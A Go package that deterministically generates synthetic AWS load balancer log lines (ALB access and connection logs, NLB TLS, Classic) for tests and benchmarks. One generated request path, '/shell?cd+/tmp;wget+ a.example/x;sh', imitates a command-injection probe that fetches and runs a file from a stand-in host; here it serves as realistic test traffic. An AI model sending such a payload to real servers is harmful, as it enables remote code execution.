// Package loggen generates realistic ELB log lines for tests, benchmarks and
// the demo: ALB access logs (IPv4 and unbracketed IPv6 clients, Lambda
// targets, redirects, WAF blocks, 4xx and 5xx, spaces in the URI, 29-, 30-
// and 33-field generations), ALB connection logs, NLB TLS logs and Classic
// load balancer logs. The output is a pure function of the seed.
package loggen

import (
	"bytes"
	"fmt"
	"io"
	"math/rand/v2"
	"strconv"
	"time"

	"github.com/klauspost/compress/gzip"
)

// Kind is a log format to generate.
type Kind int

// Kinds of log.
const (
	ALB Kind = iota
	ALBConnection
	NLB
	CLB
)

// Generator produces lines of one kind.
type Generator struct {
	kind  Kind
	rng   *rand.Rand
	start time.Time
	n     int
	// LoadBalancer is the elb field: app/name/id, net/name/id or a CLB name.
	LoadBalancer string
}

// New returns a generator of kind whose entries start at start.
func New(kind Kind, seed uint64, start time.Time) *Generator {
	g := &Generator{kind: kind, rng: rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15)), start: start.UTC()}
	switch kind {
	case ALB, ALBConnection:
		g.LoadBalancer = "app/shop-frontend/50dc6c495c0c9188"
	case NLB:
		g.LoadBalancer = "net/payments-tls/c6e77e28c25b2234"
	case CLB:
		g.LoadBalancer = "legacy-api"
	}
	return g
}

var (
	paths = []string{"/", "/api/v1/cart", "/api/v1/orders", "/api/v1/products?page=2&sort=price", "/static/app.4f3c2.js",
		"/healthz", "/login", "/api/v1/search?q=red+shoes", "/images/logo.png", "/api/v2/checkout"}
	agents = []string{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36",
		"curl/8.5.0", "okhttp/4.12.0", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
		"Go-http-client/2.0", "-"}
	ciphers = []string{"ECDHE-RSA-AES128-GCM-SHA256", "TLS_AES_128_GCM_SHA256", "TLS_AES_256_GCM_SHA384"}
)

const tgARN = "arn:aws:elasticloadbalancing:eu-west-1:123456789012:targetgroup/shop-web/73e2d6bc24d8a067"
const certARN = "arn:aws:acm:eu-west-1:123456789012:certificate/12345678-1234-1234-1234-123456789012"

// Line returns the next line, without a newline.
func (g *Generator) Line() string {
	g.n++
	t := g.start.Add(time.Duration(g.n) * 37 * time.Millisecond)
	switch g.kind {
	case ALBConnection:
		return g.connLine(t)
	case NLB:
		return g.nlbLine(t)
	case CLB:
		return g.clbLine(t)
	default:
		return g.albLine(t)
	}
}

func (g *Generator) client() string {
	if g.rng.IntN(10) == 0 {
		return fmt.Sprintf("2a02:a33c:4538:1:bcf4:%x:e01c:%x:%d", g.rng.IntN(65536), g.rng.IntN(65536), 1024+g.rng.IntN(60000))
	}
	return fmt.Sprintf("%d.%d.%d.%d:%d", 1+g.rng.IntN(223), g.rng.IntN(256), g.rng.IntN(256), 1+g.rng.IntN(254), 1024+g.rng.IntN(60000))
}

func (g *Generator) target() string {
	return fmt.Sprintf("10.0.%d.%d:8080", g.rng.IntN(4), 10+g.rng.IntN(40))
}

func ts(t time.Time) string { return t.Format("2006-01-02T15:04:05.000000Z") }

func (g *Generator) albLine(t time.Time) string {
	r := g.rng.IntN(100)
	path := paths[g.rng.IntN(len(paths))]
	agent := agents[g.rng.IntN(len(agents))]
	client := g.client()
	proto, scheme, port := "https", "https", 443
	if g.rng.IntN(4) == 0 {
		proto, scheme, port = "h2", "https", 443
	} else if g.rng.IntN(6) == 0 {
		proto, scheme, port = "http", "http", 80
	}
	cipher, tlsv := ciphers[g.rng.IntN(len(ciphers))], "TLSv1.2"
	if scheme == "http" {
		cipher, tlsv = "-", "-"
	}
	method := "GET"
	if g.rng.IntN(5) == 0 {
		method = "POST"
	}
	target, tgt, status, tstatus := g.target(), tgARN, 200, "200"
	reqT, tgtT, respT := 0.001, float64(g.rng.IntN(900))/1000, 0.0
	actions, redirect, reason := "forward", "-", "-"
	switch {
	case r < 3: // WAF block
		target, status, tstatus, actions, tgtT = "-", 403, "-", "waf", -1
	case r < 6: // redirect http -> https
		target, status, tstatus, actions, redirect, tgtT = "-", 301, "-", "redirect", "https://shop.example.com:443"+path, -1
	case r < 9: // target down
		tstatus, status, reason = "-", 502, "TargetConnectionErrorCode"
		reqT, tgtT, respT = -1, -1, -1
	case r < 11: // Lambda target
		target, tgt, reason = "-", "arn:aws:elasticloadbalancing:eu-west-1:123456789012:targetgroup/shop-fn/0a1b2c3d4e5f6a7b", "-"
	case r < 20:
		status, tstatus = 404, "404"
	case r < 23:
		status, tstatus = 500, "500"
	}
	if r == 42 {
		path = "/shell?cd+/tmp;wget+ a.example/x;sh HTTP" // a space in the URI
	}
	host := "shop.example.com"
	trace := fmt.Sprintf("Root=1-%08x-%024x", t.Unix(), g.rng.Uint64()&0xffffffffffff)
	fields := g.rng.IntN(3)
	var b bytes.Buffer
	fmt.Fprintf(&b, "%s %s %s %s %s %.3f %.3f %.3f %d %s %d %d \"%s %s://%s:%d%s HTTP/%s\" \"%s\" %s %s %s \"%s\" \"%s\" \"%s\" %d %s \"%s\" \"%s\" \"%s\" \"%s\" \"%s\" \"-\" \"-\"",
		proto, ts(t), g.LoadBalancer, client, target, reqT, tgtT, respT, status, tstatus,
		200+g.rng.IntN(2000), 300+g.rng.IntN(20000), method, scheme, host, port, path, httpVersion(proto), agent,
		cipher, tlsv, tgt, trace, host, certARN, 1+g.rng.IntN(50), ts(t.Add(-time.Duration(tgtT*1e9))), actions, redirect, reason,
		dash(target), tstatus)
	switch fields {
	case 1:
		fmt.Fprintf(&b, " TID_%032x", g.rng.Uint64())
	case 2:
		fmt.Fprintf(&b, " TID_%032x \"-\" \"-\" \"-\"", g.rng.Uint64())
	}
	return b.String()
}

func httpVersion(proto string) string {
	if proto == "h2" {
		return "2.0"
	}
	return "1.1"
}

func dash(s string) string {
	if s == "" {
		return "-"
	}
	return s
}

func (g *Generator) connLine(t time.Time) string {
	verify := "Success"
	if g.rng.IntN(20) == 0 {
		verify = "Failed:UnableToGetIssuerCert"
	}
	client := g.client()
	ip, port := splitLast(client)
	return fmt.Sprintf("%s %s %s 443 TLSv1.3 %s %.3f \"CN=device-%d,O=Example\" NotBefore=2026-01-01T00:00:00Z;NotAfter=2027-01-01T00:00:00Z %X %s TID_%032x",
		t.Format(time.RFC3339Nano), ip, port, ciphers[1+g.rng.IntN(2)], float64(g.rng.IntN(300))/1000, g.rng.IntN(1000),
		g.rng.Uint64(), verify, g.rng.Uint64())
}

func (g *Generator) nlbLine(t time.Time) string {
	line := fmt.Sprintf("tls 2.0 %s %s g3d4b5e8bb8464cd %s %s %d %d %d %d - %s - %s tlsv12 - payments.example.com h2 h2 \"h2\",\"http/1.1\"",
		t.Format("2006-01-02T15:04:05"), g.LoadBalancer, g.client(), g.target(), g.rng.IntN(60000), 1+g.rng.IntN(40),
		100+g.rng.IntN(5000), 200+g.rng.IntN(50000), certARN, ciphers[0])
	if g.rng.IntN(2) == 0 {
		line += " " + t.Add(-2*time.Second).Format("2006-01-02T15:04:05")
	}
	return line
}

func (g *Generator) clbLine(t time.Time) string {
	path := paths[g.rng.IntN(len(paths))]
	status := []int{200, 200, 200, 304, 404, 503}[g.rng.IntN(6)]
	if g.rng.IntN(10) == 0 { // a TCP listener
		return fmt.Sprintf("%s %s %s %s %.6f %.6f %.6f - - %d %d \"- - - \" \"-\" - -",
			ts(t), g.LoadBalancer, g.client(), g.target(), 0.000073, 0.001048, 0.000057, g.rng.IntN(500), g.rng.IntN(5000))
	}
	return fmt.Sprintf("%s %s %s %s %.6f %.6f %.6f %d %d %d %d \"GET https://api.example.com:443%s HTTP/1.1\" \"%s\" %s TLSv1.2",
		ts(t), g.LoadBalancer, g.client(), g.target(), 0.000073, float64(g.rng.IntN(900000))/1e6, 0.000057, status, status,
		g.rng.IntN(500), g.rng.IntN(50000), path, agents[g.rng.IntN(len(agents)-1)], ciphers[0])
}

func splitLast(addr string) (string, string) {
	for i := len(addr) - 1; i >= 0; i-- {
		if addr[i] == ':' {
			return addr[:i], addr[i+1:]
		}
	}
	return addr, ""
}

// Write writes n lines to w.
func (g *Generator) Write(w io.Writer, n int) error {
	buf := make([]byte, 0, 64<<10)
	for i := 0; i < n; i++ {
		buf = append(buf, g.Line()...)
		buf = append(buf, '\n')
		if len(buf) > 60<<10 {
			if _, err := w.Write(buf); err != nil {
				return err
			}
			buf = buf[:0]
		}
	}
	_, err := w.Write(buf)
	return err
}

// Gzip returns n lines gzipped, as ELB delivers ALB and NLB logs.
func (g *Generator) Gzip(n int) []byte {
	var b bytes.Buffer
	zw := gzip.NewWriter(&b)
	if err := g.Write(zw, n); err != nil {
		panic(err) // writes to memory do not fail
	}
	if err := zw.Close(); err != nil {
		panic(err)
	}
	return b.Bytes()
}

// Key returns a realistic S3 key for a file of this generator's kind.
func (g *Generator) Key(prefix string, seq int) string {
	day := g.start.Format("2006/01/02")
	end := g.start.Add(5 * time.Minute).Format("20060102T1504Z")
	base := prefix + "AWSLogs/123456789012/elasticloadbalancing/eu-west-1/" + day + "/"
	suffix := strconv.Itoa(seq)
	switch g.kind {
	case ALBConnection:
		return base + "conn_log.123456789012_elasticloadbalancing_eu-west-1_app.shop-frontend.50dc6c495c0c9188_" + end + "_10.0.1.5_" + suffix + ".log.gz"
	case NLB:
		return base + "123456789012_elasticloadbalancing_eu-west-1_net.payments-tls.c6e77e28c25b2234_" + end + "_" + suffix + ".log.gz"
	case CLB:
		return base + "123456789012_elasticloadbalancing_eu-west-1_legacy-api_" + end + "_10.0.2.9_" + suffix + ".log"
	default:
		return base + "123456789012_elasticloadbalancing_eu-west-1_app.shop-frontend.50dc6c495c0c9188_" + end + "_10.0.1.5_" + suffix + ".log.gz"
	}
}
